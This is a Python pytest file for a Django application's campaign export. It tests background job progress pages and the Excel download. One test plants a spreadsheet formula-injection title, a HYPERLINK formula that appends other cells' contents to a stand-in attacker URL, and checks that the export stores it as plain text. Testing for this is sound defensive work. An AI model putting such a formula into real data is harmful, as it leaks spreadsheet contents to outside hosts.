import io

import pytest
from openpyxl import load_workbook

from factorytier.applications.models import State
from factorytier.jobs.models import Job

from ..factories import ApplicationFactory, CampaignFactory

pytestmark = pytest.mark.django_db


def test_export_runs_as_a_task_and_the_page_shows_progress_then_the_file(
    client, login, commission_user, django_capture_on_commit_callbacks
):
    campaign = CampaignFactory()
    ApplicationFactory(campaign=campaign, state=State.SUBMITTED)
    ApplicationFactory(campaign=campaign, state=State.RECOMMENDED, tier="leading")
    ApplicationFactory(campaign=campaign, state=State.DRAFT)
    login(commission_user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/campaigns/{campaign.pk}/export/")
    job = Job.objects.get()
    assert response["Location"] == f"/jobs/{job.pk}/"
    # The test settings run tasks immediately, so the job is finished by now.
    page = client.get(f"/jobs/{job.pk}/").content.decode()
    assert "100%" in page and "下载" in page
    partial = client.get(f"/jobs/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in partial and 'id="job-progress"' in partial
    download = client.get(f"/jobs/{job.pk}/download/")
    wb = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert wb.sheetnames == ["卓越级", "领航级"]
    assert wb["卓越级"].max_row == 2 and wb["领航级"].max_row == 2  # header + one row; the draft is left out


def test_a_queued_job_page_polls(client, login, commission_user):
    job = Job.objects.create(owner=commission_user, kind="campaign_export", label="导出")
    login(commission_user)
    body = client.get(f"/jobs/{job.pk}/").content.decode()
    assert 'hx-trigger="load delay:1s"' in body and "排队中" in body
    assert client.get(f"/jobs/{job.pk}/download/").status_code == 404


def test_export_keeps_a_formula_like_title_as_text(client, login, commission_user, django_capture_on_commit_callbacks):
    campaign = CampaignFactory()
    evil = '=HYPERLINK("http://evil.example/?"&C2&J2&K2,"点击查看")'
    ApplicationFactory(campaign=campaign, state=State.SUBMITTED, title=evil)
    login(commission_user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/campaigns/{campaign.pk}/export/")
    job = Job.objects.get()
    wb = load_workbook(io.BytesIO(b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content)))
    cell = wb["卓越级"]["G2"]
    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix
    assert all(c.data_type != "f" for row in wb["卓越级"].iter_rows() for c in row)
